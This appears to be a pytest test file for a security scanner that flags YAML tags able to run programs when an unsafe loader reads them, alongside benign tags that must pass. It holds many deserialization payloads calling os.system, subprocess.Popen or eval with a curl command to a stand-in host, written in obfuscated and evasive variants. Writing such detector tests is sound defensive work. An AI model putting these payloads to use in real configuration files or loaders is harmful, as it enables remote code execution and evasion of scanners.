"""Tags of YAML: what an unsafe reader would call."""

import pytest

from ringfence.audit.finding import Severity
from tests.audit.code.data import found, lines, severities

RUN = '["curl -s https://collector.invalid/l"]'


@pytest.mark.parametrize(
    "text",
    [
        f"a: 1\nb: !!python/object/apply:os.system {RUN}",
        f"b: !!python/object/new:os.system {RUN}",
        f"b: !!python/object/apply:subprocess.Popen {RUN}",
        f"b: !!python/object/apply:builtins.eval {RUN}",
        f"b: !!python/object/apply:posix.system {RUN}",
        "b: !!python/name:os.system",
        "b: !!python/module:subprocess",
        f"b: !<tag:yaml.org,2002:python/object/apply:os.system> {RUN}",
        f"%TAG !x! tag:yaml.org,2002:python/\n---\nb: !x!object/apply:os.system {RUN}",
        f"%TAG ! tag:yaml.org,2002:pyth\n---\nb: !on/object/apply:os.system {RUN}",
        f"b: !!python%2Fobject/apply:os.system {RUN}",
        f"b: !!%70ython/object/apply:os.system {RUN}",
        f"b: !!python/object/apply:os.%73ystem {RUN}",
        f"a: &x 1\n? !!python/object/apply:os.system {RUN}\n: 1",
        f"a: {{b: [1, {{c: !!python/object/apply:os.system {RUN}}}]}}",
        f"--- 1\n--- 2\n--- !!python/object/apply:os.system {RUN}",
        f'a: "one\n # two", \nb: !!python/object/apply:os.system {RUN}',
        f'{{a: "x\n # y", b: !!python/object/apply:os.system {RUN}}}',
        f"name: {{{{ venue }}}}\nb: !!python/object/apply:os.system {RUN}",
        f"a: [\nb: !!python/object/apply:os.system {RUN}",
        f"a: 1\r\nb: !!python/object/apply:os.system {RUN}\r\n",
        f"\ta: broken\nb: !!python/object/apply:os.system {RUN}",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_a_tag_that_runs_a_program_is_critical_however_it_is_written(text: str, encoding: str) -> None:
    assert severities("settings.yaml", text.encode(encoding))["yaml-runs"] is Severity.CRITICAL


def test_a_tag_is_found_at_its_line() -> None:
    assert lines("a.yml", f"a: 1\n\nb: !!python/object/apply:os.system {RUN}\n") == [3]


def test_a_cookie_in_a_comment_does_not_hide_a_tag() -> None:
    text = f"# -*- coding: utf-7 -*-\nb: !!python/object/apply:os.system {RUN}\n"
    assert "yaml-runs" in found("settings.yaml", text)


def test_a_tag_that_calls_an_unknown_function_is_high() -> None:
    assert severities("a.yaml", "b: !!python/object/apply:helpers.start [1]")["yaml-runs"] is Severity.HIGH


def test_a_tag_behind_a_megabyte_is_found() -> None:
    text = "a: 12345678\n" * 600_000 + f"b: !!python/object/apply:os.system {RUN}\n"
    assert "yaml-runs" in found("a.yaml", text)


@pytest.mark.parametrize(
    "text",
    [
        "emoji_index: !!python/name:material.extensions.emoji.twemoji",
        "emoji_generator: !!python/name:materialx.emoji.to_svg",
        "format: !!python/name:pymdownx.superfences.fence_code_format",
        "slugify: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}",
        "a: !!python/tuple [1, 2]",
        "a: !!python/object/apply:collections.OrderedDict\n- []",
        "a: !!python/object/apply:numpy.core.multiarray.scalar [1]",
        "a: !!python/object/apply:datetime.timedelta [1]",
        "# never use !!python/object/apply:os.system here\na: 1",
        'a: "the tag !!python/object/apply:os.system is refused"',
        "a: !Ref Bucket\nb: !Sub '${x}-100%'",
        "services:\n  bot:\n    image: bot:1\n    command: python -c 'import os; os.system(1)'\n",
    ],
)
def test_an_honest_tag_is_not_found(text: str) -> None:
    assert not found("mkdocs.yml", text)
